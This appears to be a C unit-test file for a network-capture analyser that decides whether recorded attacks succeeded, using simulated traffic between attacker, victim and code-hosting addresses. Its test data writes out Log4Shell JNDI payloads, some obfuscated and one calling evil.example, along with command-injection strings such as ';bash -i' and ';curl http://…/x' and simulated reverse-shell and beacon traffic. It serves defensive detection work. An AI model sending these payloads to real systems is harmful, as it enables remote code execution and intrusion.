/* SPDX-License-Identifier: Apache-2.0 */
#include "packet/outcome.h"

#include "exchange_util.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>

#include <cmocka.h>

#define ATTACKER "198.51.100.7"
#define VICTIM   "10.1.2.3"
#define CODE     "203.0.113.9"
#define OTHER    "192.0.2.55"

#define CLASS_FILE "HTTP/1.1 200 OK\r\n\r\n\xca\xfe\xba\xbe\x00\x00\x00\x34"

static struct yg_outcome judge(struct scene *s, int main)
{
    struct yg_outcome o;

    yg_outcome_of(
        &(struct yg_outcome_ask){ .talk = s->list, .talks = s->talks, .main = main },
        &s->arena, &o);
    return o;
}

static void attack(struct scene *s, const char *target)
{
    struct http_case c = { .target = target, .status = 200, .answer = "ok" };

    scene_http(s, scene_talk(s, ATTACKER, VICTIM, 8080, 1), &c, 1, 0.1);
}

static struct yg_talk *ping(struct scene *s, const char *to, double seconds)
{
    struct yg_talk *t = scene_talk(s, VICTIM, to, 0, seconds);

    t->proto = YG_IP_ICMP;
    t->client_port = 8;
    t->server_port = 0;
    scene_bytes(s, t, YG_TO_SERVER, YG_STR("abcdefgh"), seconds);
    return t;
}

static void send(struct scene *s, struct yg_talk *t, struct yg_str answer, double seconds)
{
    scene_bytes(s, t, YG_TO_SERVER, YG_STR("0\x0c\x02\x01"), seconds);
    if (answer.n)
        scene_bytes(s, t, YG_TO_CLIENT, answer, seconds + 0.1);
}

/* What may follow a look-up, in seconds after the start; 0: not. */
static const struct {
    const char *what;
    double callback, reference, class_file, ping, ping_before, shell;
    uint8_t success;
    bool called, code, fresh;
} lookup[] = {
    { "nothing followed", 0, 0, 0, 0, 0, 0, YG_UNDECIDED, false, false, false },
    { "it called, and got nothing", 2, 0, 0, 0, 0, 0, YG_UNDECIDED, true, false, false },
    { "it got a reference", 2, 2, 0, 0, 0, 0, YG_UNDECIDED, true, true, false },
    { "it got a class", 2, 2, 3, 0, 0, 0, YG_UNDECIDED, true, true, false },
    { "it got a class and then pinged", 2, 2, 3, 4, 0, 0, YG_SUCCEEDED, true, true,
      true },
    { "it pings that machine anyway", 2, 2, 3, 4, 0.1, 0, YG_UNDECIDED, true, true,
      false },
    { "the ping came before the code", 2, 2, 3, 1.5, 0, 0, YG_UNDECIDED, true, true,
      false },
    { "the ping came a minute later", 2, 2, 3, 63.5, 0, 0, YG_UNDECIDED, true, true,
      false },
    { "a shell to the same machine", 2, 2, 3, 0, 0, 4, YG_SUCCEEDED, true, true, true },
    { "pinged without code", 2, 0, 0, 4, 0, 0, YG_UNDECIDED, true, false, false },
};

static void a_lookup_and_what_followed(void **state)
{
    unsigned wrong = 0;

    (void)state;
    for (size_t i = 0; i < sizeof(lookup) / sizeof(lookup[0]); i++) {
        struct scene *s = scene_new();
        if (lookup[i].ping_before > 0)
            ping(s, OTHER, lookup[i].ping_before);
        int main = (int)s->talks;
        attack(s, "/?x=${${lower:j}ndi:ldap://" CODE ":1389/a}");
        if (lookup[i].callback > 0)
            send(s, scene_talk(s, VICTIM, CODE, 1389, lookup[i].callback),
                 lookup[i].reference > 0
                     ? YG_STR("0\x82javaCodeBase1\x00http://" CODE ":8000/0")
                     : YG_STR("0\x0c\x02\x01"),
                 lookup[i].callback);
        if (lookup[i].class_file > 0)
            send(s, scene_talk(s, VICTIM, CODE, 8000, lookup[i].class_file),
                 YG_STR(CLASS_FILE), lookup[i].class_file);
        if (lookup[i].ping > 0)
            ping(s, OTHER, lookup[i].ping);
        if (lookup[i].shell > 0)
            send(s, scene_talk(s, VICTIM, CODE, 4444, lookup[i].shell), YG_STR("x"),
                 lookup[i].shell);
        struct yg_outcome o = judge(s, main);
        if (o.success != lookup[i].success ||
            has(&o, YG_M_CALLBACK) != lookup[i].called ||
            has(&o, YG_M_CODE_FETCHED) != lookup[i].code ||
            has(&o, YG_M_NEW_TRAFFIC) != lookup[i].fresh) {
            wrong++;
            print_message("# wrong: %s: %s\n", lookup[i].what,
                          yg_success_name(o.success));
            for (unsigned m = 0; m < o.marks; m++)
                print_message("#   %s\n", yg_mark_info[o.mark[m].kind].name);
        }
        scene_free(s);
    }
    assert_int_equal(wrong, 0);
}

/* Two attacks in one capture run the same command: datagrams of both are one
 * conversation, and yet each attack has its own beginning in it. */
static void the_same_twice(void **state)
{
    struct scene *s = scene_new();

    (void)state;
    attack(s, "/?x=${jndi:ldap://" CODE ":1389/a}");
    send(s, scene_talk(s, VICTIM, CODE, 1389, 1.2), YG_STR("javaSerializedData"), 1.2);
    struct yg_talk *p = ping(s, OTHER, 2);
    struct http_case again = { .target = "/?x=${jndi:ldap://" CODE ":1389/a}",
                               .status = 200 };
    scene_http(s, scene_talk(s, ATTACKER, VICTIM, 8080, 40), &again, 40, 0.1);
    send(s, scene_talk(s, VICTIM, CODE, 1389, 40.2), YG_STR("javaSerializedData"), 40.2);
    scene_bytes(s, p, YG_TO_SERVER, YG_STR("abcdefgh"), 41);
    for (int i = 0; i <= 3; i += 3) {
        struct yg_outcome o = judge(s, i);
        assert_int_equal(o.success, YG_SUCCEEDED);
        assert_true(has(&o, YG_M_NEW_TRAFFIC));
    }
    scene_free(s);
}

static void a_host_by_name(void **state)
{
    struct scene *s = scene_new();

    (void)state;
    attack(s, "/?x=${jndi:ldap://evil.example:1389/a}");
    struct yg_talk *d = scene_talk(s, VICTIM, "10.1.2.1", 53, 1.2);
    struct yg_exchange *x = scene_ask(d, YG_APP_DNS, 1.2);
    x->target = YG_STR("Evil.Example");
    x->answer = YG_ANSWER_OK;
    x->answer_body = YG_STR(CODE);
    send(s, scene_talk(s, VICTIM, CODE, 1389, 1.3), YG_STR("javaSerializedData"), 1.3);
    ping(s, OTHER, 2);
    struct yg_outcome o = judge(s, 0);
    assert_int_equal(o.success, YG_SUCCEEDED);
    assert_true(has(&o, YG_M_CODE_FETCHED));
    scene_free(s);
}

static void other_things_that_follow(void **state)
{
    static const struct {
        const char *what, *target, *to;
        uint16_t port;
        double seconds;
        bool accepted;
        uint8_t success, mark;
    } row[] = {
        { "reverse shell to the attacker", "/p?h=;bash -i", ATTACKER, 4444, 2, true,
          YG_SUCCEEDED, YG_M_TO_ATTACKER },
        { "a connection that was turned down", "/p?h=;bash -i", ATTACKER, 4444, 2, false,
          YG_UNDECIDED, YG_M_ORDINARY },
        { "connected before the attack", "/p?h=;bash -i", ATTACKER, 4444, 0.5, true,
          YG_UNDECIDED, YG_M_ORDINARY },
        { "no attack, only a page", "/index.html", ATTACKER, 4444, 2, true, YG_UNDECIDED,
          YG_M_TO_ATTACKER },
        { "the host of the command", "/p?h=;curl http://" CODE "/x", CODE, 80, 2, true,
          YG_SUCCEEDED, YG_M_CALLBACK },
        { "some other host", "/p?h=;curl http://" CODE "/x", OTHER, 80, 2, true,
          YG_UNDECIDED, YG_M_ORDINARY },
        { "the server's own request", "/p?u=http://" CODE "/x", CODE, 80, 2, true,
          YG_SUCCEEDED, YG_M_CALLBACK },
    };

    (void)state;
    for (size_t i = 0; i < sizeof(row) / sizeof(row[0]); i++) {
        struct scene *s = scene_new();
        attack(s, row[i].target);
        struct yg_talk *t = scene_talk(s, VICTIM, row[i].to, row[i].port, row[i].seconds);
        t->accepted = row[i].accepted;
        struct yg_outcome o = judge(s, 0);
        print_message("# %s\n", row[i].what);
        assert_int_equal(o.success, row[i].success);
        assert_true(has(&o, row[i].mark));
        scene_free(s);
    }
}

static void logins(void **state)
{
    (void)state;
    for (uint32_t failures = 0; failures <= 3; failures++) {
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 21, 1);
        for (uint32_t i = 0; i <= failures; i++) {
            struct yg_exchange *x = scene_ask(t, YG_APP_FTP, 1 + i);
            x->flags = YG_XF_LOGIN;
            x->answer = i < failures ? YG_ANSWER_REFUSED : YG_ANSWER_OK;
            x->answer_ns = x->ask_ns;
        }
        struct yg_outcome o = judge(s, 0);
        assert_int_equal(o.success, failures > 2 ? YG_SUCCEEDED : YG_UNDECIDED);
        assert_true(has(&o, failures > 2 ? YG_M_GUESSED : YG_M_SESSION));
        t->exchange[failures].answer = YG_ANSWER_REFUSED;
        o = judge(s, 0);
        assert_int_equal(o.success, YG_FAILED);
        scene_free(s);
    }
}

static void remote_execution(void **state)
{
    struct scene *s = scene_new();
    struct yg_exchange *x =
        scene_ask(scene_talk(s, "10.1.2.9", VICTIM, 445, 1), YG_APP_DCERPC, 1);

    (void)state;
    x->flags = YG_XF_EXEC;
    x->verb = YG_STR("svcctl.StartServiceW");
    x->answer = YG_ANSWER_OK;
    struct yg_outcome o = judge(s, 0);
    assert_int_equal(o.success, YG_SUCCEEDED);
    assert_true(has(&o, YG_M_SERVICE_RUN));
    x->answer = YG_ANSWER_REFUSED;
    o = judge(s, 0);
    assert_int_equal(o.success, YG_FAILED);
    scene_free(s);
}

static void beacons(void **state)
{
    (void)state;
    for (int even = 0; even < 2; even++) {
        struct scene *s = scene_new();
        double at = 1;
        for (unsigned i = 0; i < 6; i++) {
            send(s, scene_talk(s, VICTIM, CODE, 443, at), YG_STR("x"), at);
            at += even ? 60 + i % 2 : 20 + 31 * (i % 3);
        }
        struct yg_outcome o = judge(s, 0);
        assert_int_equal(o.success, YG_UNDECIDED);
        assert_int_equal(has(&o, YG_M_BEACON), even);
        scene_free(s);
    }
}

static void streams(void **state)
{
    const struct {
        const char *what;
        struct yg_str ask, answer;
        uint8_t success, mark;
    } row[] = {
        { "prompt of Windows", YG_STR("dir\r\n"),
          YG_STR(
              "Microsoft Windows [Version 10.0.17763.1]\r\n\r\nC:\\Windows\\system32>"),
          YG_SUCCEEDED, YG_M_SHELL_PROMPT },
        { "prompt of a shell", YG_STR("\n"), YG_STR("hello\nbash-5.1$ "), YG_SUCCEEDED,
          YG_M_SHELL_PROMPT },
        { "output of a command", YG_STR("id\nuname -a\n"),
          YG_STR("uid=0(root) gid=0(root) groups=0(root)\n"), YG_SUCCEEDED,
          YG_M_COMMAND_OUTPUT },
        { "output that nobody asked for", YG_STR("hello\n"),
          YG_STR("uid=0(root) gid=0(root) groups=0(root)\n"), YG_UNDECIDED,
          YG_M_ORDINARY },
        { "prompt of a terminal service", YG_STR("\xff\xfd\x01ls\n"),
          YG_STR("\xff\xfb\x01hello\n$ "), YG_UNDECIDED, YG_M_SESSION },
        { "nothing came back", YG_STR("id\n"), YG_STR_NONE, YG_UNDECIDED, YG_M_SILENCE },
    };

    (void)state;
    for (size_t i = 0; i < sizeof(row) / sizeof(row[0]); i++) {
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 4444, 1);
        scene_bytes(s, t, YG_TO_SERVER, row[i].ask, 1);
        if (row[i].answer.n)
            scene_bytes(s, t, YG_TO_CLIENT, row[i].answer, 1.1);
        struct yg_outcome o = judge(s, 0);
        print_message("# %s\n", row[i].what);
        assert_int_equal(o.success, row[i].success);
        assert_true(has(&o, row[i].mark));
        scene_free(s);
    }
}

/* "No answer" is said of what was listened to, never of what the capture lacks. */
static void holes(void **state)
{
    static const struct {
        const char *what;
        bool accepted;
        uint64_t gap[YG_SIDES];
        const char *back; /* bytes that came after the question */
        bool cut;
        uint8_t success, mark;
    } row[] = {
        { "bytes of the server are missing",
          true,
          { 0, 900 },
          "",
          false,
          YG_UNDECIDED,
          YG_M_HOLE },
        { "more came than is kept", true, { 0, 0 }, "", true, YG_UNDECIDED, YG_M_HOLE },
        { "packets came back after a gap",
          true,
          { 0, 900 },
          "rest",
          false,
          YG_UNDECIDED,
          YG_M_HOLE },
        { "the question has a gap, and something came",
          true,
          { 900, 0 },
          "rest",
          false,
          YG_UNDECIDED,
          YG_M_HOLE },
        { "the question has a gap, and nothing came",
          true,
          { 900, 0 },
          "",
          false,
          YG_UNDECIDED,
          YG_M_SILENCE },
        { "only the client's direction was captured",
          false,
          { 0, 0 },
          "",
          false,
          YG_UNDECIDED,
          YG_M_HOLE },
        { "accepted and silent", true, { 0, 0 }, "", false, YG_UNDECIDED, YG_M_SILENCE },
    };

    (void)state;
    for (size_t i = 0; i < 2 * YG_ARRAY_LEN(row); i++) {
        const size_t r = i / 2;
        struct http_case ask = { .target = "/p?h=;id" };
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 80, 1);
        bool read = i % 2 == 0; /* is the question one that is understood? */
        if (read)
            scene_http(s, t, &ask, 1, 0);
        else
            scene_bytes(s, t, YG_TO_SERVER, YG_STR("what is this"), 1);
        if (row[r].back[0])
            scene_bytes(s, t, YG_TO_CLIENT, yg_str_of(row[r].back), 1.2);
        t->accepted = row[r].accepted;
        for (int side = 0; side < YG_SIDES; side++)
            t->side[side].gap_bytes = row[r].gap[side];
        t->side[YG_TO_CLIENT].cut = row[r].cut;
        struct yg_outcome o = judge(s, 0);
        print_message("# %s, %s\n", row[r].what, read ? "http" : "bytes");
        assert_int_equal(o.success, row[r].success);
        if (read || !row[r].back[0]) { /* bytes that nobody understands are an answer */
            assert_true(has(&o, row[r].mark));
            assert_int_equal(o.class, yg_mark_info[row[r].mark].class);
        }
        scene_free(s);
    }
}

/* A SYN that nobody answers, or an answered question, is no hole. */
static void no_holes(void **state)
{
    static const struct http_case ask = { .target = "/p?h=;id", .status = 403 };
    struct scene *s = scene_new();
    struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 80, 1);

    (void)state;
    scene_http(s, t, &ask, 1, 0.1);
    t->side[YG_TO_CLIENT].gap_bytes = 10; /* of its body */
    struct yg_outcome o = judge(s, 0);
    assert_int_equal(o.success, YG_FAILED);
    assert_false(has(&o, YG_M_HOLE));
    t = scene_talk(s, ATTACKER, VICTIM, 81, 1);
    t->accepted = false;
    t->side[YG_TO_SERVER].syn = 1;
    o = judge(s, 1);
    assert_int_equal(o.success, YG_FAILED);
    assert_true(has(&o, YG_M_SILENCE));
    scene_free(s);
}

static void transport(void **state)
{
    static const struct {
        const char *what;
        bool accepted, reset;
        uint8_t success, mark;
    } row[] = {
        { "never accepted", false, false, YG_FAILED, YG_M_SILENCE },
        { "refused", false, true, YG_FAILED, YG_M_RESET },
        { "accepted and silent", true, false, YG_UNDECIDED, YG_M_SILENCE },
    };

    (void)state;
    for (size_t i = 0; i < sizeof(row) / sizeof(row[0]); i++) {
        struct scene *s = scene_new();
        struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 22, 1);
        t->accepted = row[i].accepted;
        t->side[YG_TO_CLIENT].rst = row[i].reset;
        struct yg_outcome o = judge(s, 0);
        print_message("# %s\n", row[i].what);
        assert_int_equal(o.success, row[i].success);
        assert_true(has(&o, row[i].mark));
        o = judge(s, -1);
        assert_int_equal(o.class, YG_OUT_UNSEEN);
        assert_int_equal(o.success, YG_UNDECIDED);
        scene_free(s);
    }
}

static void names(void **state)
{
    static const struct {
        const char *what;
        uint8_t answer;
        const char *body;
        uint8_t success, mark;
    } row[] = {
        { "no such name", YG_ANSWER_MISSING, "", YG_FAILED, YG_M_NO_NAME },
        { "led nowhere", YG_ANSWER_OK, "0.0.0.0", YG_FAILED, YG_M_SINKHOLE },
        { "led to itself", YG_ANSWER_OK, "127.0.0.1", YG_FAILED, YG_M_SINKHOLE },
        { "an address", YG_ANSWER_OK, "192.0.2.9", YG_UNDECIDED, YG_M_ORDINARY },
    };

    (void)state;
    for (size_t i = 0; i < sizeof(row) / sizeof(row[0]); i++) {
        struct scene *s = scene_new();
        struct yg_exchange *x =
            scene_ask(scene_talk(s, VICTIM, "10.1.2.1", 53, 1), YG_APP_DNS, 1);
        x->target = YG_STR("a.example");
        x->answer = row[i].answer;
        x->answer_body = yg_str_of(row[i].body);
        struct yg_outcome o = judge(s, 0);
        print_message("# %s\n", row[i].what);
        assert_int_equal(o.success, row[i].success);
        assert_true(has(&o, row[i].mark));
        scene_free(s);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_lookup_and_what_followed),
        cmocka_unit_test(the_same_twice),
        cmocka_unit_test(a_host_by_name),
        cmocka_unit_test(other_things_that_follow),
        cmocka_unit_test(logins),
        cmocka_unit_test(remote_execution),
        cmocka_unit_test(beacons),
        cmocka_unit_test(streams),
        cmocka_unit_test(holes),
        cmocka_unit_test(no_holes),
        cmocka_unit_test(transport),
        cmocka_unit_test(names),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
